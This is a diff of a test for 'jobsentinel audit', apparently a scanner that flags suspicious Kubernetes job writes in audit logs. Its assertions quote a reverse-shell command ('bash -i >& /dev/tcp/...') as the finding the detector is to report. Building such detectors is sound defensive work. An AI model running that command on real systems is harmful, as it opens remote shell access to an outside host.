@@ -72,7 +72,8 @@ describe('jobsentinel audit', () => {
     assert.equal(status, 1);
     assert.match(stdout, /^audit\.log:\d+ {2}\d{4}-\d\d-\d\dT[\d:.]+Z {2}DENIED {2}audit ID a-denied$/m);
     assert.match(stdout, /^ {2}mallory@example\.com create jobs payments\/sync {2}\(10\.0\.0\.7, kubectl\/v1\.30\.1\)$/m);
-    assert.match(stdout, /^ {4}error {7}shell-escape +bash -i >& \/dev\/tcp\/198\.51\.100\.7\/4444 0>&1/m);
+    assert.match(stdout, /^ {4}error {7}shell-escape +Container "main" opens a raw network connection .*: bash -i >& \/dev\/tcp\/198\.51\.100\.7\/4444 0>&1 {2}at \/spec\/template\/spec\/containers\/0\/command\/2$/m);
+    assert.match(stdout, /^ {4}information attacker-tooling +Container "main" uses the busybox image \(busybox:1\.36\)\./m);
     assert.match(stdout, /^6 suspicious job writes \(1 denied\) in 8 job writes among 22 events \(1 file, structural mode, kube-apiserver\)\.$/m);
     assert.match(stdout, /1 job write was logged without a body \(Metadata level\) .* level: RequestResponse/);
     assert.doesNotMatch(stdout, /\u001b\[/, 'no colour when stdout is not a terminal');
